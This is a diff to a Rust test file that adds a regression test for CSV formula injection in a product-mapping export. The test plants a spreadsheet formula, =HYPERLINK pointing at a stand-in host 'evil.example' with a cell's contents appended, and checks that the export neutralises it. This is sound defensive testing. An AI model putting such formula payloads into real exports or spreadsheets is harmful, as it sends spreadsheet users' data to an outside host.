@@ -86,6 +86,22 @@ fn mappings_are_added_imported_exported_and_complete_orders() {
 }
 
 #[test]
+fn exported_mappings_hold_no_formula_and_are_imported_as_they_were() {
+    let home = Home::new("");
+    home.serve().stop();
+    let (item, note) = ("@G-1", "=HYPERLINK(\"http://evil.example/?\"&A1)");
+    home.run_ok(&["mappings", "add", "--shop", SHOP, "--sku=-7", "--item", item, "--note", note]);
+    let exported = home.run_ok(&["mappings", "export"]);
+    let line = format!("{SHOP},,-7,'@G-1,1,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1)\"");
+    assert_eq!(exported.lines().nth(1), Some(line.as_str()));
+    home.run_ok(&["mappings", "remove", "--shop", SHOP, "--sku=-7"]);
+    let file = home.path("m.csv");
+    fs::write(&file, exported).unwrap();
+    home.run_ok(&["mappings", "import", &file.display().to_string()]);
+    assert_eq!(home.sql("SELECT sku, item, note FROM shopify_product_mappings"), format!("-7|{item}|{note}"));
+}
+
+#[test]
 fn search_finds_events_by_everyday_words() {
     let home = Home::new("");
     let daemon = home.serve();
